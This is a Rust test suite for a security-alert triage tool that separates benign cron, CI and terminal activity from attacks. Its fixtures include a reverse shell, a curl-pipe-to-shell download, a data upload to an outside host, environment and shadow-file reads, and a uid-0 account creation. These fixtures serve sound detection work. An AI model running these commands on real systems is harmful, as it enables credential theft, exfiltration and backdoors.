    fn attack_evidence_vetoes_likely_false_positive_and_splits_the_cluster() {
        // Two identical log-rotation deletions; in one session a shell connected out to an
        // unusual port first. The benign signals alone call both likely false positive;
        // the connection makes its deletion a cluster of its own, at best uncertain.
        let lines = [
            r#"{"evt.type":"connect","evt.rawres":0,"proc.pid":11,"proc.sid":10,"evt.rawtime":1000,"proc.name":"bash","fd.sip":"203.0.113.5","fd.sport":4444,"fd.name":"10.0.0.2:40000->203.0.113.5:4444"}"#,
            r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.pid":12,"proc.sid":10,"evt.rawtime":2000,"proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fs.path.name":"/var/log/app.log.1"}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.pid":21,"proc.sid":20,"evt.rawtime":1000,"proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron"}"#,
            r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.pid":21,"proc.sid":20,"evt.rawtime":2000,"proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fs.path.name":"/var/log/app.log.2"}"#,
        ];
        let reps = run(&lines, Lang::En, &History::empty());
        assert_eq!(reps.len(), 2, "{reps:#?}");
        let with = reps.iter().find(|r| r.members == vec![1]).unwrap();
        let clean = reps.iter().find(|r| r.members == vec![3]).unwrap();
        assert_eq!(clean.verdict, Verdict::LikelyFalsePositive, "{clean:#?}");
        assert_eq!(with.verdict, Verdict::Uncertain, "{with:#?}");
        assert!(with.score >= FP_THRESHOLD, "{with:#?}");
        // The shell's own connection is also a step no routine work takes.
        assert!(
            with.summary
                .contains("evidence of an attack (session_attack_step, session_outbound)"),
            "{}",
            with.summary
        );
        assert_ne!(with.cluster, clean.cluster);
    }

    /// A catalogue entry's run nobody entered (logrotate under cron) anchors; the same run in
    /// a session where a reader printed another process's environment does not (the blind
    /// holdout30: a sync CronJob's script edited to also `cat /proc/1/environ` kept its copy
    /// tool's catalogue anchor).
    #[test]
    fn a_reader_printing_an_environment_vetoes_unattended_anchors() {
        let run = |sid: i64, extra: Option<&str>| {
            let mut lines = vec![format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.pid":{sid},"proc.sid":{sid},"evt.rawtime":1000,"proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron"}}"#
            )];
            if let Some(cmd) = extra {
                lines.push(format!(r#"{{"evt.type":"execve","evt.rawres":0,"proc.pid":{},"proc.sid":{sid},"evt.rawtime":1500,"proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.cmdline":"{cmd}","proc.pname":"sh","proc.aname[2]":"cron"}}"#, sid + 1));
            }
            lines.push(format!(r#"{{"evt.type":"unlinkat","evt.rawres":0,"proc.pid":{sid},"proc.sid":{sid},"evt.rawtime":2000,"proc.name":"logrotate","proc.exepath":"/usr/sbin/logrotate","proc.pname":"cron","fs.path.name":"/var/log/app.log.2"}}"#));
            let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
            run(&refs, Lang::En, &History::empty())
                .into_iter()
                .filter(|c| c.rule == "Clear Log Activities")
                .collect::<Vec<_>>()
        };
        let clean = run(20, None);
        assert_eq!(clean[0].verdict, Verdict::LikelyFalsePositive, "{clean:#?}");
        let printed = run(30, Some("cat /proc/1/environ"));
        assert_ne!(
            printed[0].verdict,
            Verdict::LikelyFalsePositive,
            "{printed:#?}"
        );
        assert_eq!(printed[0].anchor, None, "{printed:#?}");
        // The summary says which fact withheld the anchor, not what an intruder at a
        // terminal could produce (nobody was at one).
        assert!(printed[0].score >= FP_THRESHOLD, "{printed:#?}");
        assert!(
            printed[0]
                .summary
                .contains("printed another process's environment"),
            "{}",
            printed[0].summary
        );
        assert!(
            !printed[0].summary.contains("same terminal"),
            "{}",
            printed[0].summary
        );
        // A reader of an ordinary file in the same place is no veto.
        let ordinary = run(40, Some("cat /etc/hostname"));
        assert_eq!(
            ordinary[0].verdict,
            Verdict::LikelyFalsePositive,
            "{ordinary:#?}"
        );
    }

    /// Issue 11 (recall): a CI runner's job whose session quell saw with nothing in it
    /// toward an attack, run by the system's own program, is anchored by its lineage shape
    /// (runner → job shell), with no catalogue entry. The near-attacks are not: the same
    /// act from a cron job or from a process re-parented to init (an intruder's `setsid cmd
    /// &` looks like an agent), by a program that is not the system's own, at a terminal,
    /// or after the job opened an ssh tunnel to an address outside the site.
    #[test]
    fn a_quiet_ci_job_is_anchored_by_its_lineage_and_its_near_attacks_are_not() {
        let job = |sid: i64,
                   lineage: serde_json::Value,
                   rm_exe: &str,
                   before: Vec<serde_json::Value>| {
            let mut evs = before;
            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":10,"proc.name":"rm","proc.exepath":rm_exe,"proc.cmdline":"rm -f /var/log/build/job-7.log","proc.pname":"bash"}));
            evs.push(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":11,"proc.name":"rm","proc.exepath":rm_exe,"proc.pname":"bash","fs.path.name":"/var/log/build/job-7.log"}));
            evs.into_iter()
                .map(|mut v| {
                    v["proc.sid"] = json!(sid);
                    for (k, val) in lineage.as_object().unwrap() {
                        if v.get(k).is_none() {
                            v[k] = val.clone();
                        }
                    }
                    l(v)
                })
                .collect::<Vec<String>>()
        };
        let ci = json!({"proc.tty":0,"proc.aname[2]":"gitlab-runner","proc.aname[3]":"systemd"});
        let r = verdict_of(
            &job(800, ci.clone(), "/usr/bin/rm", vec![]),
            "Clear Log Activities",
        );
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"job_quiet"), "{:#?}", r[0]);
        assert_eq!(r[0].anchor.as_deref(), Some("job_quiet (unattended)"));
        let not_anchored = |lines: Vec<String>, why: &str| {
            let r = verdict_of(&lines, "Clear Log Activities");
            assert!(!r.is_empty(), "{why}");
            for c in &r {
                assert!(!signals(c).contains(&"job_quiet"), "{why}: {c:#?}");
                assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
            }
        };
        // A cron job is anchored only with its forgeries closed (session 7, see
        // `a_quiet_cron_job_is_anchored_and_its_forgeries_are_not`): here a job running a
        // script from /tmp.
        let cron = json!({"proc.tty":0,"proc.aname[2]":"cron","proc.aname[3]":"systemd","proc.pcmdline":"bash /tmp/.c/job.sh"});
        not_anchored(
            job(801, cron, "/usr/bin/rm", vec![]),
            "cron running a dropped script",
        );
        let orphan = json!({"proc.tty":0,"proc.aname[2]":"systemd"});
        not_anchored(
            job(802, orphan, "/usr/bin/rm", vec![]),
            "re-parented to init",
        );
        not_anchored(
            job(803, ci.clone(), "/home/ci/bin/rm", vec![]),
            "not the system's rm",
        );
        let tty = json!({"proc.tty":34816,"proc.aname[2]":"gitlab-runner"});
        not_anchored(job(804, tty, "/usr/bin/rm", vec![]), "a terminal");
        let tunnel = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":5,"proc.name":"ssh","proc.exepath":"/usr/bin/ssh","proc.cmdline":"ssh -D 1080 -N -p 443 -i /tmp/.id u@198.51.100.77"});
        not_anchored(
            job(805, ci.clone(), "/usr/bin/rm", vec![tunnel]),
            "ssh tunnel out",
        );
        // A job whose alerting program's own command line hands a key to a reader nested in
        // it (the blind holdout28: a merge request's `bwrap --uid 0 --bind / / sh -c` reading
        // the signing key) is not the job's quiet work.
        let mut nested = ci.clone();
        nested["proc.cmdline"] = json!(
            "bwrap --unshare-user --uid 0 --bind / / sh -c id; cat /builds/x/.signing/key.pem"
        );
        not_anchored(
            job(807, nested, "/usr/bin/rm", vec![]),
            "a reader of a key nested in the alerting program's command line",
        );
        // A job whose script prints another process's environment with a reader takes the
        // secrets passed to that process (the blind holdout30: a sync CronJob edited to also
        // `cat /proc/1/environ`); an agent reading environments with its own code is not this.
        let environ = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":5,"proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.cmdline":"cat /proc/1/environ"});
        not_anchored(
            job(808, ci.clone(), "/usr/bin/rm", vec![environ]),
            "a reader printing pid 1's environment in the job's session",
        );
        // A program of the job hiding from debuggers (the blind holdout30 and holdout31:
        // tampered daemons asking to be traced with no debugger above them).
        let traceme = json!({"evt.type":"ptrace","evt.rawres":0,"evt.rawtime":5,"proc.name":"bash","proc.exepath":"/usr/bin/bash","evt.arg.request":"PTRACE_TRACEME"});
        not_anchored(
            job(810, ci.clone(), "/usr/bin/rm", vec![traceme]),
            "a program asking to be traced with no debugger above it",
        );
        let own_code = json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"evt.rawtime":5,"proc.name":"bash","proc.exepath":"/usr/bin/bash","fd.name":"/etc/hostname"});
        let r = verdict_of(
            &job(809, ci.clone(), "/usr/bin/rm", vec![own_code]),
            "Clear Log Activities",
        );
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        // The same tunnel to the site's own host is the job's work.
        let inside = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":5,"proc.name":"ssh","proc.exepath":"/usr/bin/ssh","proc.cmdline":"ssh -N -L 5432:db:5432 deploy@10.0.4.7"});
        let r = verdict_of(
            &job(806, ci, "/usr/bin/rm", vec![inside]),
            "Clear Log Activities",
        );
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
    }

    /// Issue 11 (anchors): a CI runner's job running the test binary its compiler just
    /// wrote in a temp directory is the build-output catalogue entry's activity, and nobody
    /// entered the job: a likely false positive. The same binary in a person's session is
    /// not anchored (anyone at a terminal can compile and run), and the same path written
    /// by a download in the CI job is a dropped binary.
    #[test]
    fn ci_job_running_its_own_build_output_is_anchored() {
        let job = |sid: i64, writer: &str, shell: serde_json::Value| {
            let mut w = json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":sid,"evt.rawtime":5,"proc.name":writer,"proc.pname":"bash","fd.name":"/tmp/go-build77/b052/queue.test"});
            let mut x = json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":6,"proc.name":"queue.test","proc.exepath":"/tmp/go-build77/b052/queue.test","proc.pname":"go"});
            let mut g = json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":4,"proc.name":writer,"proc.exepath":"/usr/local/go/bin/go","proc.cmdline":format!("{writer} test ./..."),"proc.pname":"bash"});
            for v in [&mut w, &mut x, &mut g] {
                for (k, val) in shell.as_object().unwrap() {
                    v[k] = val.clone();
                }
            }
            x["proc.aname[2]"] = json!("bash");
            x["proc.aname[3]"] = shell["proc.aname[2]"].clone();
            vec![l(g), l(w), l(x)]
        };
        let runner = json!({"proc.tty":0,"proc.aname[2]":"gitlab-runner"});
        let r = verdict_of(&job(700, "go", runner), "Exec from tmp");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
        assert!(
            r[0].reasons[0].evidence.contains("build_output")
                || r.iter().any(|c| c
                    .reasons
                    .iter()
                    .any(|x| x.evidence.contains("build_output"))),
            "{:#?}",
            r[0]
        );
        // A person at a terminal: the same evidence, no anchor.
        let person = json!({"proc.tty":34816,"proc.aname[2]":"sshd"});
        let r = verdict_of(&job(701, "go", person), "Exec from tmp");
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        // The CI job running a file curl fetched there: dropped, no catalogue match.
        let dl = [
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":702,"evt.rawtime":4,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -sSLo /tmp/go-build77/b052/queue.test https://198.51.100.9/q","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0}),
            json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":702,"evt.rawtime":5,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0,"fd.name":"/tmp/go-build77/b052/queue.test"}),
            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":702,"evt.rawtime":6,"proc.name":"queue.test","proc.exepath":"/tmp/go-build77/b052/queue.test","proc.pname":"bash","proc.aname[2]":"gitlab-runner","proc.tty":0}),
        ];
        let dl: Vec<String> = dl.into_iter().map(l).collect();
        let r = verdict_of(&dl, "Exec from tmp");
        assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
        assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
    }

    /// Session 9 (lead), from the blind holdout7: a scheduler's job running a capture tool
    /// is quiet, and anchored, when it writes its capture where captures go; the same job
    /// staging a hidden file in a temporary directory took a step no routine work takes
    /// (`session_attack_step`, a veto), after the alert as well as before it.
    #[test]
    fn a_step_no_routine_work_takes_vetoes_a_quiet_jobs_anchor() {
        let job = |sid: i64, out: &str| -> Vec<String> {
            let base = json!({"proc.sid":sid,"proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron","user.name":"root","user.uid":0});
            let with = |extra: serde_json::Value| {
                let mut x = base.clone();
                for (k, v) in extra.as_object().unwrap() {
                    x[k] = v.clone();
                }
                l(x)
            };
            vec![
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":1,"proc.name":"sh","proc.exepath":"/usr/bin/sh","proc.cmdline":format!("sh -c tcpdump -ni eth0 -w {out} udp port 514"),"proc.tty":0,"proc.pname":"cron","proc.aname[2]":"systemd"}),
                ),
                with(
                    json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":2,"proc.name":"tcpdump","proc.exepath":"/usr/bin/tcpdump","proc.cmdline":format!("tcpdump -ni eth0 -w {out} udp port 514")}),
                ),
                with(
                    json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_TRUNC","evt.rawtime":3,"proc.name":"tcpdump","proc.exepath":"/usr/bin/tcpdump","fd.name":out}),
                ),
            ]
        };
        let r = verdict_of(&job(900, "/var/tmp/syslog-20261205.pcap"), "Network tool");
        assert!(
            !signals(&r[0]).contains(&"session_attack_step"),
            "{:#?}",
            r[0]
        );
        let quiet = r[0].verdict;
        let r = verdict_of(&job(901, "/tmp/.s.pcap"), "Network tool");
        assert!(
            signals(&r[0]).contains(&"session_attack_step"),
            "{:#?}",
            r[0]
        );
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        // The veto is what tells them apart (the quiet job is anchored).
        assert_eq!(quiet, Verdict::LikelyFalsePositive);
    }

    /// Session 10: an account given user id 0 (`useradd -o -u 0`) is a step no routine
    /// work takes, in any lineage (a package's maintainer script included): it vetoes.
    /// A package's system account is not one.
    #[test]
    fn a_second_root_account_vetoes_in_any_lineage() {
        let run = |sid: i64, cmd: &str| -> Vec<ClusterReport> {
            let lines = vec![l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":1,"proc.name":"useradd","proc.exepath":"/usr/sbin/useradd","proc.cmdline":cmd,"proc.tty":0,"proc.pname":"tcpdump.postins","proc.aname[2]":"dpkg","proc.aname[3]":"unattended-upgr","user.name":"root","user.uid":0}),
            )];
            verdict_of(&lines, "User mgmt binaries")
        };
        let r = run(900, "useradd -o -u 0 -g 0 -M -s /bin/bash sysupd");
        assert!(
            signals(&r[0]).contains(&"session_attack_step"),
            "{:#?}",
            r[0]
        );
        assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        let r = run(901, "useradd --system --no-create-home _tcpdump");
        assert!(
            !signals(&r[0]).contains(&"session_attack_step"),
            "{:#?}",
            r[0]
        );
    }

    /// Issue 11 (terminal helpers): a terminal client's `sh -c "stty -echo; stty echo;
    /// tput cols"` is harmless whoever runs it: anchored even in a person's session when
    /// the shell is the system's own. A shell string with any other command, a
    /// substitution or a shell that is not the system's own is not.
    #[test]
    fn terminal_probe_through_a_shell_is_anchored_and_nothing_else_is() {
        let sh = |sid: i64, cmd: &str, exe: &str| {
            vec![
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
                ),
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.name":"sh","proc.exepath":exe,"proc.cmdline":format!("sh -c {cmd}"),"proc.tty":34816,"proc.pname":"sqlplus","proc.aname[2]":"bash","proc.aname[3]":"sshd"}),
                ),
            ]
        };
        let r = verdict_of(
            &sh(710, "stty -echo; stty echo; tput cols", "/usr/bin/sh"),
            "Run shell untrusted",
        );
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        for (sid, cmd, exe) in [
            (711, "stty -echo; cat /etc/shadow", "/usr/bin/sh"),
            (712, "stty $(cat /etc/shadow)", "/usr/bin/sh"),
            (713, "stty -echo > /tmp/x", "/usr/bin/sh"),
            (714, "stty -echo; tput cols", "/tmp/sh"),
        ] {
            let r = verdict_of(&sh(sid, cmd, exe), "Run shell untrusted");
            assert_ne!(
                r[0].verdict,
                Verdict::LikelyFalsePositive,
                "{cmd} {exe}: {:#?}",
                r[0]
            );
        }
    }

    /// Session 13 (helper adv13): a terminal probe is harmless whoever runs it, the session
    /// around it need not be. In a session somebody entered (a terminal, a login), the
    /// probe anchors only when nothing in the whole session counts toward an attack by the
    /// strict person test (`Sessions::person_trace`): after another process's environment
    /// read (no veto weighs it), a cron entry or a shell start-up file written by a child of
    /// the probe's own shell (which the probe's entry matched and excused), or a terminal
    /// client that is neither the system's own program nor installed software (a home
    /// directory's), it is not likely a false positive. The
    /// same probe with no terminal and no login entry keeps its anchor whatever the strict
    /// test finds (tests/adversary.rs: holdout4's web user's REPL).
    #[test]
    fn a_harmless_act_at_a_terminal_anchors_only_in_a_clean_session() {
        const PROBE: &str = "stty -echo; tput cols";
        // A person's session: bash from sshd at a terminal, the client's probe shell, then
        // `extra` (events of the same session, built from the session id).
        let session = |sid: i64, client: &str, extra: &dyn Fn(i64) -> Vec<String>| {
            let mut v = vec![
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":1,"proc.pid":sid,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.tty":34816,"proc.pname":"sshd"}),
                ),
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.pid":sid + 1,"proc.name":"sqlplus","proc.exepath":client,"proc.cmdline":"sqlplus scott@orcl","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
                ),
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":3,"proc.pid":sid + 2,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":format!("sh -c {PROBE}"),"proc.tty":34816,"proc.pname":"sqlplus","proc.aname[2]":"bash","proc.aname[3]":"sshd"}),
                ),
            ];
            v.extend(extra(sid));
            v
        };
        let probe = |lines: &[String]| {
            let r = verdict_of(lines, "Run shell untrusted");
            assert_eq!(r.len(), 1, "{r:#?}");
            r.into_iter().next().unwrap()
        };
        let none = |_: i64| Vec::new();
        let r = probe(&session(730, "/usr/bin/sqlplus", &none));
        assert_eq!(r.verdict, Verdict::LikelyFalsePositive, "{r:#?}");
        assert_eq!(r.anchor.as_deref(), Some("known_benign (harmless_act)"));
        // A client installed under /opt is the host's, not brought in (session 23).
        let r = probe(&session(729, "/opt/oracle/bin/sqlplus", &none));
        assert_eq!(r.verdict, Verdict::LikelyFalsePositive, "{r:#?}");
        // Another process's environment read by the person's shell's `cat`.
        let environ = |sid: i64| {
            vec![
                l(
                    json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":5,"proc.pid":sid + 5,"proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.cmdline":"cat /proc/1/environ","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
                ),
                l(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"fd.name":"/proc/1/environ","proc.sid":sid,"evt.rawtime":6,"proc.pid":sid + 5,"proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.cmdline":"cat /proc/1/environ","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
                ),
            ]
        };
        // A write where intruders persist by a child of the probe's own shell.
        let write = |path: &'static str| {
            move |sid: i64| {
                vec![l(
                    json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_APPEND","fd.num":3,"fd.name":path,"proc.sid":sid,"evt.rawtime":6,"proc.pid":sid + 6,"proc.name":"tee","proc.exepath":"/usr/bin/tee","proc.cmdline":"tee -a","proc.tty":34816,"proc.pname":"sh","proc.pcmdline":format!("sh -c {PROBE}"),"proc.aname[2]":"sqlplus","proc.aname[3]":"bash","proc.aname[4]":"sshd"}),
                )]
            }
        };
        let cases = [
            (731, session(731, "/usr/bin/sqlplus", &environ)),
            (
                732,
                session(732, "/usr/bin/sqlplus", &write("/etc/cron.d/sync-cache")),
            ),
            (
                733,
                session(733, "/usr/bin/sqlplus", &write("/root/.bashrc")),
            ),
            (734, session(734, "/home/scott/bin/sqlplus", &none)),
        ];
        for (sid, lines) in cases {
            let r = probe(&lines);
            assert_ne!(r.verdict, Verdict::LikelyFalsePositive, "{sid}: {r:#?}");
            assert_eq!(r.anchor, None, "{sid}");
        }
        // The same probe with no terminal and no login entry (a client's own child, the
        // client not the system's own): the strict test's finding does not take the anchor.
        let job = vec![
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":740,"evt.rawtime":2,"proc.pid":741,"proc.name":"sqlplus","proc.exepath":"/opt/oracle/bin/sqlplus","proc.cmdline":"sqlplus -s scott@orcl @report.sql","proc.pname":"bash"}),
            ),
            l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":740,"evt.rawtime":3,"proc.pid":742,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":format!("sh -c {PROBE}"),"proc.pname":"sqlplus","proc.aname[2]":"bash"}),
            ),
        ];
        let r = probe(&job);
        assert_eq!(r.verdict, Verdict::LikelyFalsePositive, "{r:#?}");
        assert_eq!(r.anchor.as_deref(), Some("known_benign (harmless_act)"));
        // Nobody entered it, but a child of the probe's shell that the string does not
        // name writes where intruders persist: the probe's entry does not explain the write.
        for path in ["/etc/cron.d/sync-cache", "/root/.bashrc"] {
            let mut with_write = job.clone();
            with_write.push(l(
                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_APPEND","fd.num":3,"fd.name":path,"proc.sid":740,"evt.rawtime":6,"proc.pid":746,"proc.name":"tee","proc.exepath":"/usr/bin/tee","proc.cmdline":"tee -a","proc.pname":"sh","proc.pcmdline":format!("sh -c {PROBE}"),"proc.aname[2]":"sqlplus","proc.aname[3]":"bash"}),
            ));
            let r = probe(&with_write);
            assert_ne!(r.verdict, Verdict::LikelyFalsePositive, "{path}: {r:#?}");
        }
    }

    /// Issue 11 (service patterns): a web application's `sh -c convert ...` thumbnail is
    /// the media-conversion entry's activity, a service's own child nobody entered: likely
    /// false positive. The same shell-out with an injected command, a reverse shell or a
    /// download is not.
    #[test]
    fn web_app_media_conversion_is_anchored_and_injections_are_not() {
        let sh = |sid: i64, cmd: &str| {
            vec![l(
                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":sid,"evt.rawtime":2,"proc.name":"sh","proc.exepath":"/usr/bin/dash","proc.cmdline":format!("sh -c {cmd}"),"proc.pname":"php-fpm","user.name":"www-data","user.uid":33}),
            )]
        };
        let r = verdict_of(
            &sh(
                720,
                "convert /tmp/phpQk8 -resize 320x320 /var/www/up/thumbs/a.jpg",
            ),
            "Run shell untrusted",
        );
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        for (sid, cmd) in [
            (721, "convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png"),
            (722, "convert a.png b.jpg; curl -s http://198.51.100.7/x | sh"),
            (723, "convert $(id) b.jpg"),
            (724, "cat /etc/passwd"),
        ] {
            let r = verdict_of(&sh(sid, cmd), "Run shell untrusted");
            assert_eq!(r[0].verdict, Verdict::LikelyReal, "{cmd}: {:#?}", r[0]);
        }
    }

    /// Session 7 (helper unattended): the events of one job: `before`, then `rm` deleting
    /// a log, with `lineage` (and the session id, host and time) filled into each.
    fn lineage_job(
        sid: i64,
        t0: i64,
        lineage: &serde_json::Value,
        before: Vec<serde_json::Value>,
    ) -> Vec<String> {
        let mut evs = before;
        evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t0 + 10,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm -f /var/log/app/old.log"}));
        evs.push(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":t0 + 11,"proc.name":"rm","proc.exepath":"/usr/bin/rm","fs.path.name":"/var/log/app/old.log"}));
        evs.into_iter()
            .map(|mut v| {
                v["proc.sid"] = json!(sid);
                for (k, val) in lineage.as_object().unwrap() {
                    if v.get(k).is_none() {
                        v[k] = val.clone();
                    }
                }
                l(v)
            })
            .collect()
    }

    fn assert_anchored_by(lines: &[String], rule: &str, launcher_part: &str) {
        let r = verdict_of(lines, rule);
        assert_eq!(r.len(), 1, "{r:#?}");
        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
        assert!(signals(&r[0]).contains(&"job_quiet"), "{:#?}", r[0]);
        let text = serde_json::to_string(&r[0].to_json()).unwrap();
        assert!(text.contains(launcher_part), "{launcher_part}: {text}");
    }

    fn assert_not_anchored(lines: &[String], rule: &str, why: &str) {
        let r = verdict_of(lines, rule);
        assert!(!r.is_empty(), "{why}");
        for c in &r {
            assert!(!signals(c).contains(&"job_quiet"), "{why}: {c:#?}");
            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
        }
    }

    /// Issue 11 (session 7): a cron job run by the system's own program, whose session
    /// quell saw with nothing in it toward an attack, is anchored by its lineage shape
    /// (scheduler → job shell). Its forgeries are not: a schedule entry of the same host
    /// written before it anywhere in the input (an intruder's crontab, from any session),
    /// `crontab` installing a table, a job running a script from a drop directory, a job
    /// whose session reaches outside the site, a terminal. A package's own cron entry
    /// written by the package manager does not count as a schedule change.
    #[test]
    fn a_quiet_cron_job_is_anchored_and_its_forgeries_are_not() {
        let cron = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
        let rule = "Clear Log Activities";
        assert_anchored_by(&lineage_job(900, 1000, &cron, vec![]), rule, "cron");
        // The intruder's crontab, written in another session before the job.
        let wrote = |path: &str, writer: &str, parent: &str| json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5,"proc.sid":42,"proc.name":writer,"proc.pname":parent,"proc.tty":34816,"fd.name":path,"evt.is_open_write":true,"fd.num":3});
        let mut lines = vec![l(wrote("/etc/cron.d/sync", "bash", "php-fpm"))];
        lines.extend(lineage_job(901, 1000, &cron, vec![]));
        assert_not_anchored(&lines, rule, "cron.d written before the job");
        let mut lines = vec![l(wrote("/var/spool/cron/crontabs/root", "vi", "bash"))];
        lines.extend(lineage_job(902, 1000, &cron, vec![]));
        assert_not_anchored(&lines, rule, "root's crontab written before the job");
        let mut lines = vec![l(
            json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":6,"proc.sid":43,"proc.name":"crontab","proc.cmdline":"crontab /tmp/c","proc.pname":"sh"}),
        )];
        lines.extend(lineage_job(903, 1000, &cron, vec![]));
        assert_not_anchored(&lines, rule, "crontab installed a table");
        // The same entry written AFTER the job, or by a package's maintainer script:
        // still anchored.
        let mut lines = lineage_job(904, 1000, &cron, vec![]);
        lines.push(l(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5000,"proc.sid":44,"proc.name":"bash","proc.pname":"sshd","proc.tty":34816,"fd.name":"/etc/cron.d/sync","evt.is_open_write":true,"fd.num":3})));
        assert_anchored_by(&lines, rule, "cron");
        let mut lines = vec![l(
            json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":5,"proc.sid":45,"proc.name":"sysstat.postins","proc.pname":"dpkg","proc.aname[2]":"apt-get","fd.name":"/etc/cron.d/sysstat","evt.is_open_write":true,"fd.num":3}),
        )];
        lines.extend(lineage_job(905, 1000, &cron, vec![]));
        assert_anchored_by(&lines, rule, "cron");
        // A job running a dropped script; a job whose session uploads outside the site;
        // a terminal.
        let dropped = json!({"proc.tty":0,"proc.pname":"sh","proc.pcmdline":"sh -c /dev/shm/.u/run","proc.aname[2]":"cron","proc.aname[3]":"systemd"});
        assert_not_anchored(
            &lineage_job(906, 1000, &dropped, vec![]),
            rule,
            "a dropped script",
        );
        let upload = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -sT /var/backups/db.gz https://203.0.113.50/u"});
        assert_not_anchored(
            &lineage_job(907, 1000, &cron, vec![upload]),
            rule,
            "an upload outside the site",
        );
        let tty = json!({"proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"});
        assert_not_anchored(&lineage_job(908, 1000, &tty, vec![]), rule, "a terminal");
